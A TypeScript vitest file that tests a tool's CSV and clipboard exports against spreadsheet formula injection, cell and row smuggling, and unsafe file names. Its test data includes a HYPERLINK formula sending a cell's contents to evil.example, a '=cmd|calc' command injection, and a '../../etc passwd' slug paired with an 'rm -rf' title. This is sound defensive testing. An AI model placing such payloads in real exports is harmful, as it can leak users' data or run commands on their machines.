import { describe, expect, it } from 'vitest';
import { auditCsv } from '#core/export/audit.ts';
import { parseCsv, writeCsv } from '#core/export/csv.ts';
import { fileName } from '#core/export/file-names.ts';
import { unguard } from '#core/export/formula-guard.ts';
import { quotesCsv, quotesTable } from '#core/export/quotes-file.ts';
import { sourcesCsv } from '#core/export/source-links.ts';
import { firstStory } from '../makers/make-desk.ts';
import { hostileStory } from './hostile-story.ts';

/**
 * What would run in a spreadsheet: the attack cases AC25 to AC31 and AC34. AC32 and AC33,
 * what is kept from somebody, stand in kept-from-files.test.ts.
 */

const SPREADSHEET = { profile: 'spreadsheet', separator: 'comma' } as const;
const EXACT = { profile: 'exact', separator: 'comma' } as const;

/** The cells as a spreadsheet would read them back. */
function seenBySpreadsheet(cell: string): readonly (readonly string[])[] {
  return parseCsv(writeCsv([[cell, 'next']], SPREADSHEET), 'comma');
}

describe('no cell begins with what a spreadsheet runs', () => {
  it.each([
    ['AC25', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
    ['AC26', '+1'],
    ['AC26', '-1'],
    ['AC26', '@SUM(A1:A9)'],
    ['AC27', ' =1+1'],
    ['AC27', '\u00a0\u00a0@SUM(A1)'],
    ['AC27', '\t=1+1'],
    ['AC27', '\r=1+1'],
    ['AC27', '\n=1+1'],
    ['AC27', '\0=1+1'],
    ['AC28', '＝1+1'],
    ['AC31', "'=1+1"],
  ])('%s %j', (_, cell) => {
    const [[first = ''] = []] = seenBySpreadsheet(cell);
    expect(first.startsWith("'")).toBe(true);
    // Of line ends a spreadsheet knows one.
    expect(unguard(first)).toBe(cell.replaceAll('\r', '\n'));
    expect(parseCsv(writeCsv([[cell]], EXACT), 'comma')).toEqual([[cell]]);
  });
});

describe('one value stays one cell', () => {
  it.each([
    ['AC29', 'a\n=cmd|calc'],
    ['AC30', '","=1+1\r\n"new row","'],
    ['AC30', 'a,b;c\td"'],
  ])('%s %j', (_, cell) => {
    const rows = seenBySpreadsheet(cell);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(2);
    expect(rows[0]?.[1]).toBe('next');
  });
});

describe('every file, with all that people type', () => {
  const RUNS = '=HYPERLINK("https://evil.example/","open")\n=1+1';
  const story = hostileStory(RUNS);
  const input = story.input();
  const making = { exportedAt: '2026-11-24T14:05:00Z', exportedBy: RUNS };
  const files: readonly (readonly [string, string])[] = [
    ['compact', [...quotesCsv(input, { ...SPREADSHEET, preset: 'compact' }, making)].join('')],
    ['full', [...quotesCsv(input, { ...SPREADSHEET, preset: 'full' }, making)].join('')],
    ['sources', [...sourcesCsv(input, SPREADSHEET)].join('')],
    ['audit', [...auditCsv(input, input.log, SPREADSHEET)].join('')],
  ];

  it.each(files)('AC25, AC29, AC30: %s runs nothing, and no row is made by a value', (_, csv) => {
    const [headings = [], ...rows] = parseCsv(csv, 'comma');
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row).toHaveLength(headings.length);
    const cells = rows.flat();
    expect(cells.filter((cell) => cell.includes('evil.example')).length).toBeGreaterThan(0);
    expect(cells.filter((cell) => /^\s*[=+\-@]/u.test(cell))).toEqual([]);
  });

  it('the table of the clipboard has one line a quote, and runs nothing', () => {
    const lines = quotesTable(input, making).trimEnd().split('\n');
    expect(lines).toHaveLength(parseCsv(files[0]?.[1] ?? '', 'comma').length);
    const cells = lines.flatMap((line) => line.split('\t'));
    expect(cells.filter((cell) => /^"?\s*[=+\-@]/u.test(cell))).toEqual([]);
  });
});

it('AC34: the name of the file is of letters, digits, dots and dashes, whatever the story is called', () => {
  const { desk } = firstStory();
  if (desk.story === null) throw new Error('no story');
  const story = { ...desk.story, slug: '../../"etc\r\npasswd', title: '<b>"; rm -rf' };
  const name = fileName({ ...desk, story }, 'quotes', '2026-11-24T1400', 'csv');
  expect(name).toMatch(/^[\p{L}\p{N}_-][\p{L}\p{N}._-]*$/u);
  expect(name).not.toContain('..');
});
